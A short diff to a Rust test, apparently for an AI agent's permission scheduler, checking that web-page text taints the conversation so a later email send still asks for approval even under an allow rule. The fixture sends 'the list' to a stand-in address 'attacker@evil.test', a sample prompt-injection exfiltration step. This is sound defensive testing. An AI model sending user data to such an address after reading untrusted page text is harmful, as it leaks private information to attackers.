@@ -206,7 +206,8 @@ async fn page_text_taints_the_conversation_so_a_later_send_is_asked_even_if_a_ru
     let s = setup();
     s.h.scheduler
         .policy()
-        .add_rule(Action::Allow, "email_send(*@evil.test)", RuleSource::User)
+        // A rule for the whole tool names no destination, so it is no choice of one.
+        .add_rule(Action::Allow, "email_send", RuleSource::User)
         .unwrap();
     s.h.add_mail_account_nowhere();
     let send = || json!({"to": ["attacker@evil.test"], "subject": "list", "body": "the list"});
